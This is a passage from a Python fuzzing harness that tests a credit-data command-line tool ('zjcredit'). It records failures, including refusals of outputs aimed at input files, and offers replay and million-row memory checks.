                    report.write_text(json.dumps(tally.summary(), ensure_ascii=False, indent=1), encoding="utf-8")
    finally:
        worker.stop()
        tally.seconds = time.monotonic() - started
    return tally


def _one_case(seed: int, index: int, seeds: dict[str, list[Path]], work: Path, worker: Worker, tally: Tally, every_command: bool, process_share: float, timeout: float) -> None:
    folder = work / "case"
    case, argvs, inputs = make_case(seed, index, seeds, folder, every_command=every_command)
    before = {p: fingerprint(p) for p in inputs}
    rng = random.Random(f"run:{seed}:{index}")
    tally.cases += 1
    kind = case.mutation.split("+")[0] + ("/attack" if case.attack else "")
    for argv in argvs:
        tally.commands += 1
        if rng.random() < process_share:
            result, allowed = run_process(argv, folder, work / "process-tmp", rng, timeout)
            scratch = [work / "process-tmp", SHM]
        else:
            result, allowed = worker.run(argv, folder, timeout), ALLOWED
            scratch = [worker.tmp, SHM]
            if result.get("died") is not None or result.get("timeout"):
                # A long-lived worker is not a user's fresh process: the command again, as a user runs it.
                _clean_scratch([worker.tmp])
                tally.by_mutation[kind]["rechecked in a fresh process"] += 1
                result, allowed = run_process(argv, folder, work / "process-tmp", random.Random(0), timeout, terminate=False)
                scratch = [work / "process-tmp", SHM]
        problems = judge(result, argv, before, folder / "输出", scratch, allowed=allowed)
        if case.attack and result.get("code") not in (2, 143) and not problems:
            problems.append("an output aimed at an input was not refused")
        outcome = "timeout" if result.get("timeout") else ("died" if result.get("died") else f"exit {result.get('code')}")
        tally.by_mutation[kind][outcome if not problems else "FAILED"] += 1
        if problems:
            _keep_failure(work, case, argv, result, problems, tally)
            _clean_scratch(scratch)
        if result.get("timeout"):  # what the killed run left is not the next command's
            for p in (folder / "输出").rglob("*.tmp"):
                p.unlink(missing_ok=True)
        if any("input changed" in p for p in problems):
            before = {p: fingerprint(p) for p in inputs}


def _keep_failure(work: Path, case: Case, argv: list[str], result: dict[str, Any], problems: list[str], tally: Tally) -> None:
    keep = work / "failures" / case.id.replace(":", "-")
    keep.mkdir(parents=True, exist_ok=True)
    name = f"failure-{argv[0]}{'-' + argv[1] if argv[0] in ('outcomes', 'summary', 'catalog') else ''}.json"
    for p in (work / "case").iterdir():
        if p.is_file():
            shutil.copy(p, keep / p.name)
    entry = {"case": case.id, "source": case.source, "mutation": case.mutation, "attack": case.attack, "argv": argv, "problems": problems, "stderr": (result.get("stderr") or "")[-1500:], "traceback": result.get("traceback", "")}
    (keep / name).write_text(json.dumps(entry, ensure_ascii=False, indent=1), encoding="utf-8")
    tally.failures.append(entry)


def _clean_scratch(scratch: list[Path]) -> None:
    """After a failure: the private temporary folders emptied, so the next case is judged on its own."""
    for base in scratch:
        if base != SHM and base.is_dir():
            for p in base.iterdir():
                shutil.rmtree(p, ignore_errors=True) if p.is_dir() else p.unlink(missing_ok=True)


def replay(case_id: str, work: Path) -> None:
    """Build one case again and run its commands in this process, showing what they print."""
    seed, index = (int(x) for x in case_id.split(":"))
    seeds = build_seeds(work / "seeds")
    case, argvs, _ = make_case(seed, index, seeds, work / "case", every_command=True)
    print(json.dumps(asdict(case), ensure_ascii=False))
    for argv in argvs:
        print("$ zjcredit", " ".join(argv))
        proc = subprocess.run([sys.executable, "-m", "zjcredit", *argv], cwd=work / "case", env=dict(os.environ, PYTHONPATH=str(ROOT / "src")), preexec_fn=_limit_memory)
        print("exit", proc.returncode)


def memory_check(work: Path) -> None:
    """A million-row outcome sheet under the 2 GiB limit: validate and outcomes check, .xlsx and .csv."""
    data = work / "million"
    data.mkdir(parents=True, exist_ok=True)
    for name in ("m.xlsx", "m.csv"):
        if not (data / name).exists():
            subprocess.run([sys.executable, str(HERE / "generate_outcomes.py"), "--rows", "1000000", "-o", str(data / name), "--catalog", str(data / "m_catalog.xlsx")], check=True)
    for name in ("m.xlsx", "m.csv"):
        for argv in (["validate", str(data / name)], ["outcomes", "check", str(data / name), "--catalog", str(data / "m_catalog.xlsx")]):
            started = time.monotonic()
            proc = subprocess.run([sys.executable, "-m", "zjcredit", *argv, "--format", "json"], capture_output=True, text=True, env=dict(os.environ, PYTHONPATH=str(ROOT / "src")), preexec_fn=_limit_memory)
            print(f"{' '.join(argv[:2])} {name}: exit {proc.returncode} in {time.monotonic() - started:.0f} s {proc.stderr.strip()[-200:]}")


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--cases", type=int, default=1000)
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--start", type=int, default=0)
    parser.add_argument("--work", type=Path, default=Path(tempfile.gettempdir()) / "zjcredit-fuzz")
    parser.add_argument("--quick", action="store_true", help="one command per case (the suite's setting)")
    parser.add_argument("--process-share", type=float, default=0.05, help="share of commands run as a fresh process (some terminated)")
    parser.add_argument("--timeout", type=float, default=COMMAND_TIMEOUT)
    parser.add_argument("--report", type=Path, help="write the tallies and failures as JSON here")
    parser.add_argument("--replay", metavar="SEED:INDEX")
    parser.add_argument("--memory", action="store_true", help="a million-row sheet under 2 GiB instead of fuzzing")
    args = parser.parse_args()
    if args.replay:
        return replay(args.replay, args.work)
    if args.memory:
        return memory_check(args.work)
    tally = fuzz(args.seed, args.cases, args.work, start=args.start, every_command=not args.quick, process_share=args.process_share, timeout=args.timeout, log=lambda s: print(s, file=sys.stderr, flush=True), report=args.report)
    summary = tally.summary()
    if args.report:
        args.report.write_text(json.dumps(summary, ensure_ascii=False, indent=1), encoding="utf-8")
    print(json.dumps({k: v for k, v in summary.items() if k != "failures"}, ensure_ascii=False, indent=1))
    for failure in summary["failures"][:30]:
        print(f"FAILED {failure['case']} {failure['mutation']} {' '.join(failure['argv'][:2])}: {'; '.join(failure['problems'])}")
    sys.exit(1 if summary["failures"] else 0)


if __name__ == "__main__":
    main()
